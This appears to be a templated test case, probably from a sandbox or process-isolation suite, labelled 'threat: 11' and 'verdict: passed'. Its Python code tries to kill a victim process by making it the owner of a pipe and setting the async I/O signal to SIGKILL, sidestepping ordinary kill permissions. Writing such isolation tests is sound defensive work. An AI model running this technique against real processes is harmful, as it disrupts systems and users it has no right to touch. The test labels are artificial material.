# threat: 11
# verdict: passed
# reaches: victim
{RIGHT}
import fcntl, os, struct, time
read, write = os.pipe()
for own in (lambda: fcntl.fcntl(read, 15, struct.pack("ii", 1, {VICTIM})), lambda: fcntl.fcntl(read, fcntl.F_SETOWN, {VICTIM})):
    try:
        own()
        fcntl.fcntl(read, 10, 9)  # F_SETSIG
        fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(write, b"x")
        time.sleep(0.05)
    except OSError as error:
        print(error)
